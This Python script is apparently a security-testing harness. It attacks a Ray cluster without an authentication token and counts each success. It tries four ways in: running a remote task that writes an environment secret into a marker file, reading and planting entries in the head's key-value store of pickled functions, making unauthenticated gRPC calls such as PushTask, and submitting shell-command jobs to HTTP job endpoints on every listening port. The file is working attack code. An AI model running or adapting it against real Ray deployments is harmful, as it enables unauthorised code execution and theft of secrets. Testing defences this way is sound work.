"""An attacker without the token, as a program: `python attack.py try HOST MARKER PORTS...` attacks a Ray.

It needs Ray but not this package, so that it also runs in a container: `python - find < attack.py` prints the ports.
Each attack has its own process and a few seconds; one that succeeds prints a line `IN: ...`. MARKER is a file that the
attacker's task creates where it runs; it contains the value of SECRET_NAME there.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sys
from contextlib import suppress
from pathlib import Path

SECRET_NAME = "SUMSQUARES_ATTACK_SECRET"  # noqa: S105  the name, not the secret
SECONDS = 7
"""Per attack. Ray's own client gives up after 1 s on a head that answers, and after half a minute on a silent one."""
LISTENING = "0A"
METHODS = (
    "NodeInfoGcsService/GetAllNodeInfo",
    "JobInfoGcsService/GetAllJobInfo",
    "InternalKVGcsService/InternalKVKeys",
    "ActorInfoGcsService/GetAllActorInfo",
    "NodeManagerService/GetNodeStats",
    "NodeManagerService/GetSystemConfig",
    "CoreWorkerService/GetCoreWorkerStats",
    "CoreWorkerService/PushTask",
    "ObjectManagerService/Pull",
    "ReporterService/GetTraceback",
)
"""Methods of each of Ray's services; the requests are empty."""
PATHS = ("/api/jobs/", "/api/job_agent/jobs/", "/get_or_create_runtime_env", "/get_runtime_envs_info")


def processes() -> dict[int, int]:
    """Returns all visible processes with their parents."""
    found = {}
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit():
            with suppress(OSError):
                found[int(folder.name)] = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
    return found


def family(root: int) -> set[int]:
    """Returns a process and all its descendants."""
    parents, found = processes(), {root}
    while more := {each for each, parent in parents.items() if parent in found} - found:
        found |= more
    return found


def command_of(process: int) -> list[str]:
    """Returns a process's command line; empty if it is gone."""
    with suppress(OSError):
        return Path(f"/proc/{process}/cmdline").read_bytes().decode(errors="replace").split("\0")
    return []


def named(members: set[int], name: str) -> list[int]:
    """Returns the processes whose program's name starts like this."""
    return sorted(each for each in members if command_of(each)[:1] and Path(command_of(each)[0]).name.startswith(name))


def seconds_of(process: int) -> float:
    """Returns a process's CPU time."""
    with suppress(OSError):
        fields = Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return 0.0


def listening(process: int) -> set[int]:
    """Returns the TCP ports that a process listens on, in its own network namespace."""
    sockets, ports = set(), set()
    with suppress(OSError):
        for file in Path(f"/proc/{process}/fd").iterdir():
            with suppress(OSError):
                sockets.add(str(file.readlink()))
        for table in ("tcp", "tcp6"):
            for line in Path(f"/proc/{process}/net/{table}").read_text().splitlines()[1:]:
                fields = line.split()
                if fields[3] == LISTENING and f"socket:[{fields[9]}]" in sockets:
                    ports.add(int(fields[1].rpartition(":")[2], 16))
    return ports


def ports_of(members: set[int]) -> list[int]:
    """Returns all ports that the processes listen on, the head's first."""
    heads = {port for each in named(members, "gcs_server") for port in listening(each)}
    return [*sorted(heads), *sorted({port for each in members for port in listening(each)} - heads)]


def by_client(host: str, ports: list[int], marker: str) -> None:
    """Runs a task with Ray's own client."""
    import ray

    def task() -> str:
        """Pickled by value, since the victim's workers cannot import this file."""
        import os
        from pathlib import Path

        with Path(marker).open("a") as file:
            file.write(os.environ.get(SECRET_NAME, "it isn't there"))
        return "a task"

    address = f"{host}:{ports[0]}"
    ray.init(address=address, log_to_driver=False, logging_level="ERROR")
    sys.stdout.write(f"IN: {ray.get(ray.remote(num_cpus=0)(task).remote())} at {address}\n")


def by_store(host: str, ports: list[int], marker: str) -> None:
    """Reads and writes the head's key-value store, which holds the pickled functions."""
    from ray._raylet import GcsClient

    client = GcsClient(address=f"{host}:{ports[0]}")
    keys = client.internal_kv_keys(b"", namespace=b"fun")
    client.internal_kv_put(b"planted", marker.encode(), True, namespace=b"fun")
    sys.stdout.write(f"IN: {len(keys)} keys\n")


def by_calls(host: str, ports: list[int], marker: str) -> None:
    """Makes single gRPC calls without Ray's client."""
    import grpc

    del marker
    token = os.environ.get("RAY_AUTH_TOKEN")
    metadata = [("authorization", f"Bearer {token}")] if token else []
    for port in ports:
        with grpc.insecure_channel(f"{host}:{port}") as channel:
            for method in METHODS:
                try:
                    channel.unary_unary(f"/ray.rpc.{method}")(b"", timeout=1, metadata=metadata)
                    sys.stdout.write(f"IN: {method} at {port}\n")
                except grpc.RpcError as error:
                    if error.code() == grpc.StatusCode.UNAVAILABLE:
                        break  # nothing listens, or it isn't gRPC


def by_jobs(host: str, ports: list[int], marker: str) -> None:
    """Submits a job that creates the marker, to the Jobs API and the agents' HTTP at every port."""
    from http.client import HTTPConnection, HTTPException

    token = os.environ.get("RAY_AUTH_TOKEN")
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    body = json.dumps({"entrypoint": f"echo by a job >> {marker}"})
    for port in ports:
        for path in PATHS:
            with suppress(OSError, HTTPException):
                connection = HTTPConnection(host, port, timeout=1)
                connection.request("POST", path, body, {"Content-Type": "application/json", **headers})
                if (status := connection.getresponse().status) < 400:
                    sys.stdout.write(f"IN: {status} for {path} at {port}\n")


def attempt(way, *arguments) -> int:
    """Runs one attack in its own process, since Ray ends the process of a rejected client."""
    if child := os.fork():
        return child
    signal.alarm(SECONDS)
    try:
        way(*arguments)
    except BaseException as error:
        sys.stdout.write(f"refused: {way.__name__}: {' '.join(str(error).split())[:150]}\n")
    finally:
        sys.stdout.flush()
        os._exit(0)


def main() -> None:
    if sys.argv[1] == "find":
        sys.stdout.write(json.dumps(ports_of(set(processes()))) + "\n")
        return
    import grpc  # noqa: F401  imported once for all attacks
    import ray  # noqa: F401

    host, marker, ports = sys.argv[2], sys.argv[3], [int(port) for port in sys.argv[4:]]
    socket.setdefaulttimeout(2)
    children = [attempt(way, host, ports, marker) for way in (by_client, by_store, by_calls, by_jobs)]
    for child in children:
        os.waitpid(child, 0)
    sys.stdout.write("all ways tried\n")


if __name__ == "__main__":
    main()
